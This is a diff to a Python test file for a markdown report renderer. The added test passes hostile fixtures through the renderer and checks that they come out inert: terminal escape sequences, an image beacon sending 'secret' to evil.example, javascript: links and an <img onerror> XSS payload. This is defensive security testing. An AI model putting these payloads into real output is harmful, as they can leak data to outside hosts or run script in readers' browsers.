@@ -386,7 +386,36 @@ def test_markdown_escapes_pipes_and_newlines_in_cells(workspace: Path, out_dir: 
     report = build_report(make_record(out_dir, [only], ["line one\nline two"]))
     markdown = render_markdown(report)
     assert "| Title | Cache \\| loader |" in markdown
-    assert "| | line one<br>line two |" in markdown
+    # A name is shown on one line (the CLI refuses such names; old reports may hold them).
+    assert "| | line one?line two |" in markdown
+    assert_tables_are_well_formed(markdown)
+
+
+HOSTILE = "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07 \x1b[2J\x07"
+
+
+def test_markdown_is_inert_whatever_the_model_and_the_requirements_say(
+    workspace: Path, out_dir: Path
+) -> None:
+    approach = (
+        "See ![](http://evil.example/?d=secret) and [docs](javascript:alert(1)) "
+        "but [the spec](https://example.com/spec) is fine." + HOSTILE
+    )
+    risks = "- <img src=x onerror=alert(1)>\n- [x]: data:text/html,boo"
+    text = plan_text(REPO_FILES[:3], title="Title" + HOSTILE, approach=approach, risks=risks)
+    only = make_result("img", workspace, out_dir, text=text, reason="model said \x1b[31mred")
+    record = make_record(
+        out_dir,
+        [only],
+        ["<img src=x onerror=alert(1)>"],
+        requirements="Do it" + HOSTILE + "\n![beacon](https://evil.example/b.png)",
+    )
+    markdown = render_markdown(build_report(record))
+    assert "\x1b" not in markdown and "\x07" not in markdown
+    assert "<img" not in markdown and "&lt;img src=x onerror=alert(1)&gt;" in markdown
+    assert "![" not in markdown and "!\\[](http://evil.example/?d=secret)" in markdown
+    assert "](javascript:" not in markdown and "[docs]\\(javascript:alert(1))" in markdown
+    assert "[the spec](https://example.com/spec)" in markdown
     assert_tables_are_well_formed(markdown)
 
 
